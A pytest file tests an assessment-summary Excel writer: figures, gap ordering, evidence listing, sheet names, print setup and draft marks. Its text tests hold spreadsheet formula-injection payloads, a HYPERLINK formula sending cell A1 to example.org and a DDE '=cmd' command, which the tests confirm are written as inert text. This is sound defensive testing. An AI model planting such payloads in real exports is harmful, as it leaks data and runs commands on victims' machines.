"""The summary workbook, read back with openpyxl: everything is there, as what it is, and safe."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime
from decimal import Decimal

import pytest
from exchange_samples import (
    DIGEST,
    PACK,
    answer,
    draft_of,
    pack_standing,
    piece,
    small_answers,
    small_evidence,
    small_questionnaire,
    small_summary,
    standing_of,
    summary_of,
    words,
)
from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

from assessment.exchange.spreadsheet_text import original_text
from assessment.exchange.summary_input import SummaryInput
from assessment.exchange.summary_workbook import write_summary
from assessment.locale import LANGUAGES, texts
from assessment.questionnaire.model import MethodKind, Section, Step
from assessment.records import EvidenceLink, EvidenceState

HOSTILE = '=HYPERLINK("http://example.org/"&A1,"x")'


def raw(summary: SummaryInput, language: str = "en") -> bytes:
    target = io.BytesIO()
    write_summary(summary, texts(language), target)
    return target.getvalue()


def book_of(summary: SummaryInput, language: str = "en") -> Workbook:
    return load_workbook(io.BytesIO(raw(summary, language)))


def cells(book: Workbook) -> list[Cell]:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def sheet_of(book: Workbook, start: str) -> Worksheet:
    return next(sheet for sheet in book.worksheets if sheet.title.startswith(start))


def table_of(sheet: Worksheet) -> list[dict[str, object]]:
    """The rows below the head, by column title."""
    head = int(str(sheet.print_title_rows).split("$")[1].strip(":"))
    titles = [cell.value for cell in sheet[head]]
    return [dict(zip(titles, (cell.value for cell in row), strict=True)) for row in sheet.iter_rows(min_row=head + 1)]


def midnight(iso: str) -> datetime:
    return datetime.fromisoformat(iso)


def with_comment(text: str) -> SummaryInput:
    answers = [answer("A.1", 3, comment=text), *small_answers()[1:]]
    return summary_of(standing_of(small_questionnaire(), answers, small_evidence()))


# --- figures ------------------------------------------------------------------------------------------------------------


def test_the_worked_example_is_shown_cut_and_as_numbers() -> None:
    sheet = sheet_of(book_of(small_summary()), "Overview")
    rows = {row[0].value or row[1].value: [cell.value for cell in row] for row in sheet.iter_rows() if isinstance(row[3].value, int)}
    # level, possible level, so far, certain, possible, still open; whole 1.708, 2.333, 2.541; A 8/4, 8/3, 12/4; B 7/3, 7/2, 11/3; C 1/2
    assert rows["The whole"][3:9] == [1, 1, 2.3, 1.7, 2.5, 0.8]
    assert rows["A"][2:9] == [2, 2, 3, 2.6, 2, 3, 1]
    assert rows["B"][2:9] == [1, 2, 3, 3.5, 2.3, 3.6, 1.3]
    assert rows["C"][2:9] == [1, 0, 0, 0.5, 0.5, 0.5, 0]
    assert [rows[name][12:14] for name in ("The whole", "A", "B", "C")] == [[7, 8], [3, 3], [2, 3], [2, 2]]


def test_what_the_next_level_needs_is_said_in_words() -> None:
    said = [cell.value for cell in cells(book_of(small_summary())) if isinstance(cell.value, str)]
    assert "Level 2 needs level 1 in C (Safety)." in said


def test_a_cap_in_force_is_said_in_words_with_what_would_open_the_next_level() -> None:
    answers = [answer(one.name, 0 if one.name == "A.1" else 4) for one in small_questionnaire().criteria()]
    said = [cell.value for cell in cells(book_of(summary_of(standing_of(small_questionnaire(), answers, [])))) if cell.value]
    assert "Held at level 1 by a gate: level 2 needs level 2 in A.1 (Statement of A.1)." in said


def test_every_comment_reason_indicator_and_level_is_in_its_section() -> None:
    book = book_of(small_summary())
    rows = {str(row["Criterion"]): row for section in "ABC" for row in table_of(sheet_of(book, f"{section} "))}
    described = "Description of the level, or reason why not applicable"
    assert [rows[f"A.{n}"]["Level"] for n in (1, 2, 3, 4)] == [3, 2, None, None]
    assert [rows[f"A.{n}"]["Answer given"] for n in (1, 2, 3, 4)] == ["Implemented", "Defined", "Don't know", "Not applicable"]
    assert [rows[f"A.{n}"]["Possible level"] for n in (1, 2, 3, 4)] == [3, 2, 4, None]
    assert rows["A.1"]["Comment"] == "Named in 2024."
    assert rows["A.1"][described] == "A.1 at level 3"
    assert rows["A.4"][described] == "Reason: No land border."
    assert rows["A.2"]["Flags"] == "To be looked at again"
    assert rows["C.1"]["Flags"] == "Critical, below minimum"
    assert rows["B.3"]["Answer given"] == "No answer yet"
    assert (rows["B.1"]["Indicator"], rows["B.1"]["Unit and period"]) == (62.5, "percent\n5 of 8\n2025")
    assert rows["A.1"]["Evidence"] == "Order 12 (3 May 2026)"
    assert rows["A.1"]["Backed level"] == 2  # its evidence covers level 2 of the claimed 3


def test_all_criteria_stand_in_one_table_with_a_filter() -> None:
    sheet = sheet_of(book_of(small_summary()), "Criteria")
    rows = table_of(sheet)
    assert [row["Criterion"] for row in rows] == ["A.1", "A.2", "A.3", "A.4", "B.1", "B.2", "B.3", "C.1", "C.2"]
    assert sheet.auto_filter.ref == f"A5:Q{5 + 9}"
    assert [row["Gap"] for row in rows] == [0, 1, None, None, 0, 0, None, 3, 2]  # target 3 less the level, never below 0


def test_gaps_come_with_what_is_below_its_minimum_first_and_unknown_levels_last() -> None:
    rows = table_of(sheet_of(book_of(small_summary()), "Gaps"))
    # C.1 is critical; then section weight x share x gap: C.2 1 x 1/2 x 2, A.2 2 x 1/4 x 1; then unknown A.3, B.3: effort 1 + 2 + 3 each
    assert [(row["Criterion"], row["Gap"], row["Effort to target"]) for row in rows] == [
        ("C.1", 3, 6),
        ("C.2", 2, 5),
        ("A.2", 1, 3),
        ("A.3", "not known", 6),
        ("B.3", "not known", 6),
    ]


def test_a_criterion_below_its_minimum_comes_before_a_gap_that_would_lift_the_whole_further() -> None:
    # section weight x share x gap: C.1, critical, 1 x 1/2 x 2 = 1; A.2: 2 x 1/5 x 3 = 6/5
    answers = [answer(one.name, {"A.2": 0, "C.1": 1}.get(one.name, 4)) for one in small_questionnaire().criteria()]
    rows = table_of(sheet_of(book_of(summary_of(standing_of(small_questionnaire(), answers, []))), "Gaps"))
    assert [row["Criterion"] for row in rows] == ["C.1", "A.2"]


def test_evidence_is_listed_with_real_dates_and_what_it_supports_and_the_rest_of_the_library_stays_out() -> None:
    rows = table_of(sheet_of(book_of(small_summary()), "Evidence"))
    assert [(row["Title"], row["Supports criteria"], row["Date"]) for row in rows] == [
        ("Order 12", "A.1", midnight("2026-05-03")),
        ("Law on precursors", "B.1", midnight("2025-01-31")),
    ]
    assert rows[1]["Expires"] == midnight("2030-01-31")


def test_evidence_that_does_not_count_says_so() -> None:
    rejected = piece("e1", "Order 12", state=EvidenceState.REJECTED, state_reason="Wrong year")
    standing = standing_of(small_questionnaire(), small_answers(), [rejected, *small_evidence()[1:]])
    book = book_of(summary_of(standing))
    assert table_of(sheet_of(book, "Evidence"))[0]["Valid"] == "no"
    assert table_of(sheet_of(book, "A "))[0]["Evidence"] == "Order 12 (3 May 2026; does not count at the as-of date)"


def test_a_date_that_is_none_stays_text() -> None:
    answers = [answer("A.1", 2, evidence=(EvidenceLink(evidence="x"),))]
    standing = standing_of(small_questionnaire(), answers, [piece("x", "Undated", "spring 2025")])
    assert table_of(sheet_of(book_of(summary_of(standing)), "Evidence"))[0]["Date"] == "spring 2025"


def test_a_number_with_more_digits_than_excel_keeps_stays_text() -> None:
    from assessment.exchange.summary_rows import number

    assert number("12345678901234567890") == "12345678901234567890"
    assert number("0.1") == Decimal("0.1")
    assert number("about ten") == "about ten"
    assert number("NaN") == "NaN"


# --- text -----------------------------------------------------------------------------------------------------------------


def test_text_that_looks_like_a_formula_stays_text_wherever_people_write() -> None:
    answers = [
        answer("A.1", 3, comment=HOSTILE, evidence=(EvidenceLink(evidence="e1", satisfies=("E2",)),)),
        answer("A.4", state=small_answers()[3].state, reason="@SUM(1)"),
    ]
    library = [piece("e1", "=1+1", number="+2", holder="-3")]
    named = small_questionnaire(title=words("=1+2", "=1+2"))
    hostile = {"member": "=cmd|'/c calc'!A0", "region": "-1", "title": "+A1", "round": "@x"}
    found = cells(book_of(summary_of(standing_of(named, answers, library), **hostile)))
    assert {cell.data_type for cell in found} <= {"s", "n", "d"}
    values = {cell.value for cell in found}
    assert {HOSTILE, "=1+1", "@SUM(1)", "=cmd|'/c calc'!A0", "-1", "+A1", "@x", "=1+2"} <= values
    assert all(cell.quotePrefix for cell in found if cell.value in (HOSTILE, "=1+1", "-1", "+A1", "@x"))


def test_no_sheet_holds_a_formula_or_a_link_to_the_outside() -> None:
    with zipfile.ZipFile(io.BytesIO(raw(with_comment(HOSTILE)))) as files:
        parts = {name: files.read(name).decode() for name in files.namelist()}
    assert not [name for name, text in parts.items() if name.startswith("xl/worksheets/") and "<f>" in text]
    assert not [name for name, text in parts.items() if 'TargetMode="External"' in text]


@pytest.mark.parametrize("text", ["a & b < c > d \"e\" 'f'", "  kept  ", "line\nbreak\ttab", "_x0041_", "é 中文 عربي 😀", "]]>"])
def test_a_comment_reads_back_as_it_was_written(text: str) -> None:
    assert original_text(str(table_of(sheet_of(book_of(with_comment(text)), "A "))[0]["Comment"])) == text


def test_a_control_character_leaves_a_mark() -> None:
    assert table_of(sheet_of(book_of(with_comment("a\x00b")), "A "))[0]["Comment"] == "a\N{REPLACEMENT CHARACTER}b"


@pytest.mark.parametrize("sheet", ["A ", "Criteria"])
@pytest.mark.parametrize("text", ["word " * 14_000, "x" * 70_000, "\n".join(["line"] * 400)])
def test_a_long_comment_goes_on_in_further_rows_and_is_complete(sheet: str, text: str) -> None:
    rows = [row for row in table_of(sheet_of(book_of(with_comment(text)), sheet)) if row["Criterion"] == "A.1"]
    assert "".join(str(row["Comment"]) for row in rows) == text
    assert {row["Statement"] for row in rows[1:]} == {"(continued)"}
    assert max(len(str(row["Comment"])) for row in rows) <= 32_767


def test_no_row_is_higher_than_excel_can_show() -> None:
    book = book_of(with_comment("A long sentence about the controls. " * 400))
    assert max(size.height or 0 for sheet in book.worksheets for size in sheet.row_dimensions.values()) <= 409


# --- marks, names, set-up --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_draft_and_synthetic_data_are_marked_on_every_sheet_and_every_printed_page(language: str) -> None:
    t = texts(language)
    book = book_of(draft_of(pack_or_small(), synthetic=True), language)
    for sheet in book.worksheets:
        said = " ".join(str(cell.value) for row in sheet.iter_rows(max_row=6) for cell in row if cell.value)
        assert t("Draft: not signed off") in said
        assert t("Synthetic data: made up for demonstration, no administration said this") in said
        assert sheet.oddHeader.right.text == f"{t('Draft: not signed off')} · {t('Synthetic data')}"


def test_a_signed_result_of_real_data_bears_no_mark_but_its_signature_and_digest() -> None:
    book = book_of(small_summary())
    values = [cell.value for cell in cells(book)]
    assert not [value for value in values if "Draft" in str(value) or "Synthetic" in str(value)]
    cover = {row[0].value: row[1].value for row in book.worksheets[0].iter_rows() if row[1].value is not None}
    assert (cover["Signed by"], cover["Function"], cover["Digest (SHA-256)"]) == ("Awa Exemple", "Director General", DIGEST)
    assert (cover["Signed on"], cover["As-of date"]) == (midnight("2026-11-20"), midnight("2026-11-20"))
    assert cover["About this questionnaire"] == "This is a reconstruction."
    assert cover["Disclosure"] == "The Secretariat sees it; the coordinators and heads of your region see levels, bands and flags."
    assert all(DIGEST[:12] in sheet.oddFooter.left.text for sheet in book.worksheets)


def pack_or_small() -> object:
    return pack_standing() if PACK.exists() else small_summary().standing


@pytest.mark.parametrize("language", LANGUAGES)
def test_sheet_names_are_legal_and_unique(language: str) -> None:
    names = book_of(draft_of(pack_or_small()), language).sheetnames
    assert len({name.casefold() for name in names}) == len(names)
    assert all(len(name) <= 31 and not re.search(r"[\[\]:*?/\\]", name) for name in names)


def test_sections_named_like_other_sheets_get_their_own() -> None:
    base = small_questionnaire()
    first, second, third = base.sections
    title = words("Criteria / of: a very long title that goes on and on", "Critères / d'un: très long titre qui n'en finit pas")
    sections = (
        Section("A", title, 2, criteria=first.criteria),
        Section("a", title, 1, criteria=second.criteria),
        Section("Cover", words(" "), 1, criteria=third.criteria),
    )
    standing = standing_of(small_questionnaire(sections=sections), small_answers(), small_evidence())
    names = book_of(summary_of(standing)).sheetnames
    assert len(names) == len({name.casefold() for name in names}) == 2 + 3 + 3


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_sheet_prints_on_a4_landscape_fitted_to_its_width(language: str) -> None:
    for sheet in book_of(small_summary(), language).worksheets:
        size = int(sheet.page_setup.paperSize)  # 9: A4
        assert (sheet.page_setup.orientation, size, sheet.page_setup.fitToWidth) == ("landscape", 9, 1)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert "&P" in sheet.oddFooter.right.text


def test_tables_freeze_and_repeat_their_head() -> None:
    book = book_of(small_summary())
    for start, corner in (("A ", "B6"), ("Criteria", "C6"), ("Gaps", "C6"), ("Evidence", "C6")):
        sheet = sheet_of(book, start)
        assert (sheet.freeze_panes, sheet.print_title_rows) == (corner, "$5:$5")
        assert sheet.auto_filter.ref.startswith("A5:")


def test_a_member_name_with_ampersands_is_plain_text_in_the_header() -> None:
    book = book_of(small_summary(member="Customs & Excise &P"))
    assert book.worksheets[0].oddHeader.left.text == "Customs && Excise &&P"


def test_levels_bear_the_colours_of_the_scale() -> None:
    rows = sheet_of(book_of(small_summary()), "A ")
    assert rows["C6"].value == 3
    assert (rows["C6"].fill.fgColor.rgb, rows["C6"].font.color.rgb) == ("FF33748A", "FFFFFFFF")


def test_the_overview_has_one_native_chart_of_its_own_table() -> None:
    with zipfile.ZipFile(io.BytesIO(raw(small_summary()))) as files:
        charts = [files.read(name).decode() for name in files.namelist() if name.startswith("xl/charts/")]
    assert len(charts) == 1
    assert len(re.findall(r"<(?:c:)?ser>", charts[0])) == 4  # certain, still open, backed, target
    assert "'Overview'!" in charts[0]


def test_the_cover_links_to_every_other_sheet() -> None:
    book = book_of(small_summary())
    places = [cell.hyperlink.location for row in book.worksheets[0].iter_rows() for cell in row if cell.hyperlink]
    assert places == [f"'{name}'!A1" for name in book.sheetnames[1:]]


def test_the_document_says_what_it_is() -> None:
    facts = book_of(draft_of(small_summary().standing)).properties
    assert (facts.title, facts.creator, facts.subject) == ("Self-assessment 2026: summary", "Global Shield Assessment", "Exempland")
    assert facts.description == "Draft: not signed off"


def test_an_assessment_without_any_answer_can_be_written() -> None:
    book = book_of(draft_of(standing_of(small_questionnaire(), [], [])))
    assert len(table_of(sheet_of(book, "Criteria"))) == 9


def test_a_questionnaire_without_an_overall_level_can_be_written() -> None:
    steps = (Step("section", MethodKind.LOWEST), Step("whole", MethodKind.NONE))
    standing = standing_of(small_questionnaire(steps=steps), small_answers(), [])
    assert "No overall level" in [cell.value for cell in cells(book_of(summary_of(standing)))]


@pytest.mark.skipif(not PACK.exists(), reason="the pack is not in this tree")
@pytest.mark.parametrize("language", LANGUAGES)
def test_the_whole_pack_is_in_the_workbook_in_the_readers_language(language: str) -> None:
    standing = pack_standing()
    values = {cell.value for cell in cells(book_of(summary_of(standing), language))}
    assert {one.label.to(language) for one in standing.questionnaire.criteria()} <= values
    assert {one.comment for one in standing.answers.values() if one.comment} <= values
    assert {section.name for section in standing.questionnaire.sections} <= values
